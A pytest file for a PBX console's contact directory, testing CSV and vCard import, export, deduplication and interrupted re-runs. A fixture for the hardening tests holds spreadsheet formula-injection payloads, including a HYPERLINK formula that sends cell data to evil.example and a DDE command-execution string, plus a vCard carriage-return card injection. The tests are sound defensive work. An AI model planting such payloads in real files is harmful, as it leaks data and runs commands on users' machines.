"""Import and export: round trips lose no field, broken files get per-row errors, re-runs make no duplicates."""
from __future__ import annotations

import pytest

from console.directory import books, imports, transfer
from console.directory.books import Book
from console.directory.connection import DirectoryUnavailable
from console.directory.models import DirectoryImport
from console.directory.tree import Contact
from console.extensions import db

FULL = Contact(given_name="Zoë", surname="O'Neill; Jr.", company="Müller, Söhne & Co", title="Leitung \"Einkauf\"",
               email="zoe@mueller.example", phone="+49301234567", mobile="+491701234567", home="+49891234567",
               fax="+49301234568", note="Zeile 1\nZeile 2; mit \\ und ,")
COMPANY_ONLY = Contact(company="Stadtwerke Nord", phone="+494012345678")


def _batch(pbx, content: bytes, fmt: str) -> DirectoryImport:
    batch = DirectoryImport(pbx_id=pbx.id, filename=f"book.{fmt}", file_format=fmt, content=content)
    db.session.add(batch)
    db.session.flush()
    return batch


@pytest.mark.parametrize("fmt, export", [("csv", transfer.export_csv), ("vcard", transfer.export_vcard)])
def test_round_trip_loses_no_field(directory, pbx, make_customer, fmt, export):
    source = Book(pbx)
    for contact in (FULL, COMPANY_ONLY):
        books.save_entry(directory, source, Contact(**contact.values()))
    content = export(books.list_entries(directory, source)).encode()

    target = Book(make_customer().pbx)
    batch = _batch(target.pbx, content, transfer.detect_format(f"x.{'vcf' if fmt == 'vcard' else 'csv'}", content))
    assert imports.apply(directory, target, batch, imports.SKIP)["created"] == 2
    again = {c.name: c.values() for c in books.list_entries(directory, target)}
    assert again == {"Zoë O'Neill; Jr.": FULL.values(), "Stadtwerke Nord": COMPANY_ONLY.values()}


def test_german_csv_from_a_spreadsheet(directory, pbx):
    content = ("Vorname;Nachname;Firma;Telefon;Handy\r\nHans;Meier;Meier KG;030 / 12 34 56;0171-1234567\r\n"
               .encode("cp1252"))
    batch = _batch(pbx, content, "csv")
    rows = imports.preview(directory, Book(pbx), batch)
    assert [(r.contact.name, r.contact.phone, r.contact.mobile, r.errors) for r in rows] == [
        ("Hans Meier", "+4930123456", "+491711234567", [])]


def test_a_broken_file_shows_per_row_errors_and_changes_nothing_until_confirmed(directory, pbx):
    content = ("surname,phone,mobile\nGut,030 1112222,\nSchlecht,12,\n,030 3334444,\nAuch gut,,0171 9998887\n"
               "Zu viel,030 5556666,,extra\n").encode()
    batch = _batch(pbx, content, "csv")
    rows = imports.preview(directory, Book(pbx), batch)
    assert [(r.line, r.ok) for r in rows] == [(2, True), (3, False), (4, False), (5, True), (6, False)]
    assert "phone" in rows[1].errors[0] and "last name" in rows[2].errors[0]
    assert books.list_entries(directory, Book(pbx)) == []  # the preview wrote nothing

    summary = imports.apply(directory, Book(pbx), batch, imports.SKIP)
    assert (summary["created"], summary["failed"]) == (2, 3)
    assert [c.name for c in books.list_entries(directory, Book(pbx))] == ["Auch gut", "Gut"]


def test_duplicates_by_normalised_number_are_skipped_or_updated(directory, pbx):
    books.save_entry(directory, Book(pbx), Contact(surname="Alt", company="Firma", phone="+49 30 1112222"))
    batch = _batch(pbx, "surname,phone,email\nNeu,030-111 22 22,neu@x.example\n".encode(), "csv")
    [row] = imports.preview(directory, Book(pbx), batch)
    assert row.duplicate.surname == "Alt"
    assert imports.apply(directory, Book(pbx), batch, imports.SKIP)["skipped"] == 1
    assert [(c.surname, c.email) for c in books.list_entries(directory, Book(pbx))] == [("Alt", "")]
    assert imports.apply(directory, Book(pbx), batch, imports.UPDATE)["updated"] == 1
    assert [(c.surname, c.company, c.email) for c in books.list_entries(directory, Book(pbx))] == [
        ("Neu", "Firma", "neu@x.example")]


def test_an_import_stopped_halfway_can_be_run_again_without_duplicates(directory, pbx, slapd, monkeypatch):
    lines = ["surname,phone"] + [f"Person {n},030 77{n:05d}" for n in range(10)] + ["Ohne Nummer,"]
    batch = _batch(pbx, "\n".join(lines).encode(), "csv")
    real_save, written = books.save_entry, []

    def dies_after_four(*args, **kwargs):
        if len(written) == 4:
            slapd.stop()  # the server goes away in the middle of the import
            raise DirectoryUnavailable("gone")
        written.append(1)
        return real_save(*args, **kwargs)

    monkeypatch.setattr(books, "save_entry", dies_after_four)
    with pytest.raises(DirectoryUnavailable):
        imports.apply(directory, Book(pbx), batch, imports.SKIP)
    monkeypatch.setattr(books, "save_entry", real_save)
    slapd.start()
    assert len(books.list_entries(directory, Book(pbx))) == 4

    summary = imports.apply(directory, Book(pbx), batch, imports.SKIP)
    assert (summary["created"], summary["skipped"]) == (7, 4)
    summary = imports.apply(directory, Book(pbx), batch, imports.SKIP)
    assert (summary["created"], summary["skipped"]) == (0, 11)
    assert len(books.list_entries(directory, Book(pbx))) == 11


# --- exports that a spreadsheet or an address book cannot be tricked by (issue 11, point 11) ---------------

FORMULAS = Contact(given_name='=HYPERLINK("https://evil.example/?d="&A2;"Klick")', surname="@SUM(1+1)",
                   company="+SUM(1)", title="-2+3", email="\t=1+1@x.example", phone="+49 30 1234567",
                   note="\r=cmd|' /C calc'!A0")


def test_csv_export_neutralises_formulas_and_keeps_numbers_readable(directory, pbx, make_customer):
    import csv
    import io
    books.save_entry(directory, Book(pbx), Contact(**FORMULAS.values()))
    exported = transfer.export_csv(books.list_entries(directory, Book(pbx)))
    header, row = list(csv.reader(io.StringIO(exported)))
    cells = dict(zip(header, row))
    assert cells["phone"] == "+49301234567"  # a number in E.164 stays as it is: nothing to run, easy to read
    for name in ("given_name", "surname", "company", "title", "email", "note"):
        assert cells[name].startswith("'"), (name, cells[name])  # a spreadsheet shows it as text
    assert cells["company"] == "'+SUM(1)"
    assert exported.startswith('"given_name","surname"')  # every cell quoted: no ";" splits a cell in two

    target = Book(make_customer().pbx)
    batch = _batch(target.pbx, exported.encode(), "csv")
    assert imports.apply(directory, target, batch, imports.SKIP)["created"] == 1
    [again] = books.list_entries(directory, target)
    assert again.values() == books.list_entries(directory, Book(pbx))[0].values()
    assert again.company == "+SUM(1)" and again.note == "=cmd|' /C calc'!A0"


def test_a_value_that_starts_with_an_apostrophe_survives_the_round_trip(directory, pbx, make_customer):
    books.save_entry(directory, Book(pbx), Contact(surname="'s Gravenhage", company="''quoted", note="'=x"))
    exported = transfer.export_csv(books.list_entries(directory, Book(pbx)))
    target = Book(make_customer().pbx)
    imports.apply(directory, target, _batch(target.pbx, exported.encode(), "csv"), imports.SKIP)
    [again] = books.list_entries(directory, target)
    assert (again.surname, again.company, again.note) == ("'s Gravenhage", "''quoted", "'=x")


def test_a_bare_cr_in_a_note_cannot_inject_a_card(directory, pbx, make_customer):
    injected = "harmlos\rEND:VCARD\rBEGIN:VCARD\rVERSION:3.0\rN:Eingeschleust;;;;\rFN:Eingeschleust\rTEL:+4930666"
    # As an entry may hold it in LDAP already (written before the console stored line breaks as LF) …
    card = transfer.export_vcard([Contact(surname="Opfer", note=injected)])
    rows = transfer.parse_vcard(card)
    assert [r.contact.surname for r in rows] == ["Opfer"]
    assert rows[0].contact.note == injected.replace("\r", "\n")
    assert "\r" not in card.replace("\r\n", "")  # no line break but the line ends
    # … and as the console saves and exports it now, re-imported into another book.
    books.save_entry(directory, Book(pbx), Contact(surname="Opfer", note=injected))
    content = transfer.export_vcard(books.list_entries(directory, Book(pbx))).encode()
    target = Book(make_customer().pbx)
    assert imports.apply(directory, target, _batch(target.pbx, content, "vcard"), imports.SKIP)["created"] == 1
    assert [(c.surname, c.note) for c in books.list_entries(directory, target)] == [
        ("Opfer", injected.replace("\r", "\n"))]


def test_vcard_lines_are_folded_at_75_octets(directory, pbx, make_customer):
    long = Contact(surname="Müller-Lüdenscheidt", company="Ä" * 60, note="Größere Wartung; siehe Notiz, " * 8)
    books.save_entry(directory, Book(pbx), Contact(**long.values()))
    card = transfer.export_vcard(books.list_entries(directory, Book(pbx)))
    lines = card.split("\r\n")[:-1]
    assert max(len(line.encode()) for line in lines) <= 75 and any(line.startswith(" ") for line in lines)
    target = Book(make_customer().pbx)
    imports.apply(directory, target, _batch(target.pbx, card.encode(), "vcard"), imports.SKIP)
    [again] = books.list_entries(directory, target)
    assert again.values() == books.list_entries(directory, Book(pbx))[0].values()


def test_rows_repeated_within_the_file_are_one_entry(directory, pbx):
    content = ("surname,phone,email\nGleich,030 1112222,\nGleich,030-111 22 22,\nAnders,0171 5556666,\n"
               "Anders,+49 171 5556666,anders@x.example\n").encode()
    batch = _batch(pbx, content, "csv")
    rows = imports.preview(directory, Book(pbx), batch)
    assert [(r.line, r.repeats, r.identical) for r in rows] == [(2, None, False), (3, 2, True), (4, None, False),
                                                                (5, 4, False)]
    summary = imports.apply(directory, Book(pbx), batch, imports.UPDATE)
    assert (summary["created"], summary["updated"], summary["skipped"]) == (2, 1, 1)
    assert [(c.surname, c.phone or c.mobile, c.email) for c in books.list_entries(directory, Book(pbx))] == [
        ("Anders", "+491715556666", "anders@x.example"), ("Gleich", "+49301112222", "")]

    again = _batch(pbx, content, "csv")  # the same file once more, skipping duplicates: nothing new
    summary = imports.apply(directory, Book(pbx), again, imports.SKIP)
    assert (summary["created"], summary["skipped"]) == (0, 4)


def test_a_number_searched_without_its_area_code_finds_the_pbxs_own_area(directory, make_customer):
    pbx = make_customer(name="Ortsnetz GmbH").pbx  # its trunk's block lies in an area of its own
    area = books.local_areas(pbx)
    assert area and all(a.startswith("+49") for a in area)
    local = area[0] + "7654321"
    books.save_entry(directory, Book(pbx), Contact(surname="Nachbar", phone=local))
    books.save_entry(directory, Book(pbx), Contact(surname="Fern", phone="+498917654321"))
    assert [c.surname for c in books.list_entries(directory, Book(pbx), "765 43 21")] == ["Nachbar"]
    assert [c.surname for c in books.list_entries(directory, Book(pbx), "7654321")] == ["Nachbar"]
    assert books.list_entries(directory, Book(pbx), "17654321") == []  # Munich's number is not local here
